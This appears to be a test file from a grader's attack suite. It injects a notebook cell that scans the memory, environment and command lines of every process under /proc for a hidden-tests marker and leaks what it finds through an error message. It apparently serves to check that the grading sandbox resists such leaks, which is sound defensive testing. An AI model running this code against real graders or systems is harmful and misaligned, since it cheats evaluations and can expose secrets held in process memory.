from __future__ import annotations

from nbformat import NotebookNode

from tests.graders.attacks.tools import first

WHY = "The memory, environment and command lines of all processes in the box are searched."
FLAG = None

CODE = r"""
import glob, os, re
found, secret = [], re.compile(b"END HIDDE[N] TESTS")  # a plain needle would find itself
for name in glob.glob("/proc/[0-9]*"):
    for file in ("environ", "cmdline"):
        try:
            text = open(f"{name}/{file}", "rb").read()
            found += [text.decode(errors="replace")] if secret.search(text) else []
        except OSError:
            pass
    try:
        maps, memory = open(name + "/maps").read().splitlines(), open(name + "/mem", "rb", 0)
    except OSError:
        continue
    for line in maps:
        if " rw" in line and ("heap" in line or line.endswith(" 0 ")):
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            try:
                memory.seek(low)
                block = memory.read(min(high - low, 1 << 24))
            except (OSError, ValueError, OverflowError):
                continue
            for match in secret.finditer(block):
                found.append(block[max(0, match.start() - 400): match.start()].decode(errors="replace"))
if found:
    raise RuntimeError(" | ".join(found)[:500])
"""


def attack(notebook: NotebookNode) -> None:
    first(notebook, CODE)
